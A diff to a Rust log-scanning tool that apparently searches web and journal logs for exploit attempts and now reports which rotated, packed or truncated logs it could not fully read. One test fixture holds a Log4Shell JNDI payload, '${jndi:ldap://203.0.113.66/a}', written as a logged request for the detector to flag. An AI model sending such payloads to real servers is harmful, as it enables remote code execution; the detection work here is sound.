@@ -9,10 +9,10 @@ use std::io::{Read, Seek, SeekFrom};
 use tripoint_model::{Attempt, Timestamp};
 
 use crate::journal::{self, Journal};
-use crate::lines::Lines;
+use crate::lines::{LINE_MAX, Lines};
 use crate::locate::{Log, generations, open};
 use crate::log::{LogFormat, pattern};
-use crate::scan::{Options, Scan};
+use crate::scan::{Counts, Options, Scan};
 
 /// When it must have been.
 #[derive(Clone, Copy, Debug)]
@@ -36,6 +36,8 @@ pub struct Tried {
 pub const ATTEMPTS_MAX: usize = 64;
 /// The end of a log that is read, bytes: some sixty thousand requests.
 const END_BYTES_MAX: u64 = 8 << 20;
+/// Generations whose ends are read.
+const GENERATIONS: usize = 2;
 /// Lines before it are counted for their numbers, as far as that is quick.
 const COUNTED_BYTES_MAX: u64 = 512 << 20;
 
@@ -55,13 +57,26 @@ pub fn tried(
     }
     for log in logs {
         // A log that was rotated a moment ago has its end in the generation before, which is packed a day later.
-        for one in generations(log).iter().take(2).filter(|one| !is_packed(one)) {
+        for (age, one) in generations(log).iter().enumerate() {
+            let path = one.path.display();
             if is_over() {
-                found.missing.push(format!("{}: its end was not read, the time is over", one.path.display()));
+                found.missing.push(format!("{path}: its end was not read, the time is over"));
                 return found;
             }
-            if let Err(error) = end_of(one, window, options, is_over, &mut found) {
-                found.missing.push(format!("{}: {error}", one.path.display()));
+            if age < GENERATIONS && !is_packed(one) {
+                if let Err(error) = end_of(one, window, options, is_over, &mut found) {
+                    found.missing.push(format!("{path}: {error}"));
+                }
+            } else {
+                match open(one) {
+                    // Those that follow are older still.
+                    Ok(file) if was_written_before(&file, window.from) => break,
+                    Ok(_) => {
+                        let why = if is_packed(one) { "it is packed" } else { "it is an older generation" };
+                        found.missing.push(format!("{path}: not searched for what others tried: {why}"));
+                    }
+                    Err(error) => found.missing.push(format!("{path}: {error}")),
+                }
             }
         }
     }
@@ -77,6 +92,7 @@ fn of_journal(
 ) -> Result<(), String> {
     let records = journal.read((window.from, window.to), is_over).map_err(|error| error.to_string())?;
     let path = journal.to_string();
+    let mut left_out = 0;
     let mut show = |mut attempt: Attempt| {
         if attempt.time.is_some_and(|time| (window.from..=window.to).contains(&time)) && attempt.is_exploit() {
             let cursor = journal::cursor(&attempt.raw).map(|cursor| format!("journalctl --cursor='{cursor}'"));
@@ -84,21 +100,39 @@ fn of_journal(
             // The newest come first here.
             if found.attempts.len() < ATTEMPTS_MAX {
                 found.attempts.push(attempt);
+            } else {
+                left_out += 1;
             }
         }
     };
     let mut scan = Scan::new(&path, options, &mut show);
     let mut lines = Lines::new(records.take(END_BYTES_MAX));
-    let mut outcome = Ok(());
-    while let Some(line) = lines.next_line().map_err(|error| error.to_string())? {
-        scan.line(line.number, line.offset, &line.text);
-        if is_over() {
-            outcome = Err(read_to(line.number));
-            break;
+    let mut failed = None;
+    loop {
+        match lines.next_line() {
+            Ok(Some(line)) => {
+                scan.line(line.number, line.offset, &line.text);
+                if is_over() {
+                    failed = Some(read_to(line.number));
+                    break;
+                }
+            }
+            Ok(None) => break,
+            Err(error) => {
+                failed = Some(error.to_string());
+                break;
+            }
         }
     }
-    scan.end();
-    outcome
+    let is_cut = lines.read() >= END_BYTES_MAX;
+    let counts = scan.end();
+    if is_cut {
+        let mib = END_BYTES_MAX >> 20;
+        let reason = format!("{path}: only the newest {mib} MiB between {} and {} were read", window.from, window.to);
+        found.missing.push(reason);
+    }
+    found.missing.extend(losses(&path, counts, lines.cut, left_out));
+    failed.map_or(Ok(()), Err)
 }
 
 fn is_packed(log: &Log) -> bool {
@@ -114,15 +148,15 @@ fn end_of(
     found: &mut Tried,
 ) -> Result<(), String> {
     let mut file = open(log).map_err(|error| error.to_string())?;
-    let about = file.metadata().map_err(|error| error.to_string())?;
-    if about.modified().is_ok_and(|written| Timestamp::from_system(written) < window.from) {
+    if was_written_before(&file, window.from) {
         return Ok(());
     }
-    let start = about.len().saturating_sub(END_BYTES_MAX);
+    let start = file.metadata().map_err(|error| error.to_string())?.len().saturating_sub(END_BYTES_MAX);
     let before = lines_before(&mut file, start, is_over).map_err(|error| error.to_string())?;
     file.seek(SeekFrom::Start(start)).map_err(|error| error.to_string())?;
     let path = log.path.display().to_string();
     let made = log.pattern.as_deref().and_then(|pattern| pattern::compile(pattern).ok());
+    let mut left_out = 0;
     let mut show = |mut attempt: Attempt| {
         let is_then = attempt.time.is_some_and(|time| (window.from..=window.to).contains(&time));
         if !is_then || !attempt.is_exploit() {
@@ -134,29 +168,69 @@ fn end_of(
         }
         if found.attempts.len() >= ATTEMPTS_MAX {
             found.attempts.remove(0);
+            left_out += 1;
         }
         found.attempts.push(attempt);
     };
     let mut scan = Scan::new(&path, options, &mut show).preferring(made.as_ref().map(|made| made as &dyn LogFormat));
     let mut lines = Lines::new(file.take(END_BYTES_MAX));
-    let mut outcome = Ok(());
-    while let Some(line) = lines.next_line().map_err(|error| error.to_string())? {
+    let mut failed = None;
+    loop {
+        let line = match lines.next_line() {
+            Ok(Some(line)) => line,
+            Ok(None) => break,
+            Err(error) => {
+                failed = Some(error.to_string());
+                break;
+            }
+        };
         // The first one was cut by where we began.
         if start == 0 || line.number > 1 {
             scan.line(before.unwrap_or(0) + line.number, start + line.offset, &line.text);
         }
         // To look at a line costs more than to look at the clock.
         if is_over() {
-            outcome = Err(read_to(before.unwrap_or(0) + line.number));
+            failed = Some(read_to(before.unwrap_or(0) + line.number));
             break;
         }
     }
-    scan.end();
-    outcome
+    let earliest = scan.earliest();
+    let counts = scan.end();
+    if start > 0 && earliest.is_none_or(|earliest| earliest > window.from) {
+        let begins = earliest.map_or("hold no time".to_owned(), |time| format!("begin at {time}"));
+        let mib = END_BYTES_MAX >> 20;
+        let reason = format!(
+            "{path}: of what others tried since {} only the last {mib} MiB were read, which {begins}",
+            window.from
+        );
+        found.missing.push(reason);
+    }
+    found.missing.extend(losses(&path, counts, lines.cut, left_out));
+    failed.map_or(Ok(()), Err)
 }
 
 fn read_to(line: u64) -> String {
     format!("read to line {line} only, the time is over")
+}
+
+fn was_written_before(file: &File, time: Timestamp) -> bool {
+    let written = file.metadata().and_then(|about| about.modified());
+    written.is_ok_and(|written| Timestamp::from_system(written) < time)
+}
+
+/// What was read and not kept.
+fn losses(path: &str, counts: Counts, cut: u64, left_out: u64) -> Vec<String> {
+    let kib = LINE_MAX >> 10;
+    let told = [
+        (cut, format!("of {cut} lines longer than {kib} KiB only the beginning was read")),
+        (
+            left_out,
+            format!("more than {ATTEMPTS_MAX} exploits were tried, {left_out} of the earlier ones are left out"),
+        ),
+        (counts.forgotten, format!("{} matches of Sigma correlations found no room", counts.forgotten)),
+    ];
+    let told = told.into_iter().filter(|(count, _)| *count > 0);
+    told.map(move |(_, reason)| format!("{path}: {reason}")).collect()
 }
 
 /// How many lines end before `end`; nothing where counting would take long.
@@ -214,6 +288,36 @@ mod tests {
         write("b.log.1", &[request(10, jndi)]);
         let attempts = found(folder.path(), "b.log").attempts;
         assert!(attempts.len() == 1 && attempts[0].file.ends_with("b.log.1"), "{attempts:?}");
+    }
+
+    #[test]
+    fn whatever_was_not_read_or_not_kept_is_said() {
+        let folder = tempfile::tempdir().unwrap();
+        let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
+        let missing = |name: &str| found(folder.path(), name).missing.join("; ");
+        let jndi = "/?x=${jndi:ldap://203.0.113.66/a}";
+        write("quiet.log", &request(10, jndi));
+        assert_eq!(missing("quiet.log"), "");
+        // The bytes that are read begin after the time that was asked for; then before it.
+        let filler = |second: u32| request(second, &format!("/{}", "x".repeat(500)));
+        let many = usize::try_from(END_BYTES_MAX).unwrap() / filler(7).len() + 1000;
+        write("busy.log", &filler(7).repeat(many));
+        let said = missing("busy.log");
+        assert!(said.contains("busy.log: of what others tried since") && said.contains("begin at"), "{said}");
+        write("early.log", &(filler(2).repeat(many) + &request(10, jndi)));
+        assert_eq!(missing("early.log"), "");
+        write("crowd.log", &request(10, jndi).repeat(ATTEMPTS_MAX + 3));
+        let said = missing("crowd.log");
+        assert!(said.contains("more than 64 exploits were tried") && said.contains("left out"), "{said}");
+        write("long.log", &request(10, &format!("/{}", "x".repeat(LINE_MAX))));
+        assert!(missing("long.log").contains("1 lines longer than 64 KiB"), "{}", missing("long.log"));
+        // Generations that are not searched although they were written then.
+        for name in ["turned.log", "turned.log.1", "turned.log.2", "packed.log", "packed.log.1.gz"] {
+            write(name, &request(10, "/"));
+        }
+        let said = missing("turned.log");
+        assert!(said.contains("turned.log.2: not searched") || said.contains("turned.log.1: not searched"), "{said}");
+        assert!(missing("packed.log").contains("packed.log.1.gz: not searched"), "{}", missing("packed.log"));
     }
 
     #[test]
